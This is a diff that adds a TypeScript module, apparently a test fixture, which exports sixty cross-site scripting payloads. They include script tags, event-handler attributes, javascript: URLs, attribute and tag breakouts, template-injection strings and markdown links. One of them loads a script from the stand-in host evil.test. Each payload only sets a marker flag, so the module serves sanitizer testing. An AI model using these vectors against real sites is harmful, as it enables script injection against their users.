@@ -1,0 +1,21 @@
+/** What sets this mark has run as a script. */
+export const ranMark = '__ran';
+const run = `window.${ranMark}=1`;
+
+const scripts = [
+  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script >${run}</script >`, `<script src="data:text/javascript,${run}"></script>`, `<script src=//evil.test/x.js></script>`, `<script type=module>${run}</script>`,
+  `<img src=x onerror="${run}">`, `<img src=x onerror=${run}>`, `<IMG SRC=x OnErRoR='${run}'>`, `<img/src=x/onerror=${run}>`, `<img src="x\` onerror=${run}">`, `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<body onload=${run}>`, `<iframe srcdoc="<script>parent.${ranMark}=1</script>"></iframe>`, `<iframe src="javascript:parent.${ranMark}=1"></iframe>`,
+  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<details open ontoggle=${run}>x</details>`, `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}></textarea>`, `<button autofocus onfocus=${run}>x</button>`, `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`, `<form action="javascript:${run}"><button>x</button></form>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<style>@import 'javascript:${run}';</style>`, `<style onload=${run}></style>`, `<link rel=stylesheet href=x onerror=${run}>`, `<link rel=import href="data:text/html,<script>${run}</script>">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<marquee onstart=${run}>x</marquee>`,
+];
+const breakouts = [
+  `"><script>${run}</script>`, `'><script>${run}</script>`, `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
+  `" onmouseover="${run}" autofocus onfocus="${run}`, `' onfocus='${run}' autofocus='`, `\u2028</script><script>${run}</script>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `javascript:${run}`, `JaVaScRiPt:${run}`,
+  `[x](javascript:${run})`, `[x](data:text/html,<script>parent.${ranMark}=1</script>)`, `![x](x" onerror="${run})`, `&lt;script&gt;${run}&lt;/script&gt;`,
+];
+
+/** Sixty texts that run as a script wherever text is taken for markup. */
+export const scriptPayloads: readonly string[] = [...scripts, ...breakouts];
